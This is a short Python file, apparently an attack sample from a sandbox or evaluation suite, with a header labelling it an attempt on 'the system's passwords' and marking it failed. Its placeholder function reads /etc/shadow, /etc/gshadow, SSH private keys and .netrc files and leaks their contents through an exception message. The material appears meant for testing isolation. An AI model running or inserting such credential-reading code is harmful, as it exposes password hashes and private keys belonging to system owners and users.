# attack: the system's passwords
# idea: Opens what only the superuser and the user may read.
# place: any
# outcome: failed

import glob
import os


def FUNCTION(*args, **kwargs):
    homes = glob.glob("/home/*") + ["/root", os.path.expanduser("~")]
    closed = [f"{home}/{name}" for home in homes for name in (".ssh/id_rsa", ".ssh/id_ed25519", ".netrc")]
    for path in ["/etc/shadow", "/etc/gshadow", *closed]:
        try:
            with open(path) as file:
                leaked = file.read()
        except OSError:
            continue
        raise RuntimeError(f"{path}: {leaked[:80]}")
    return WRONG
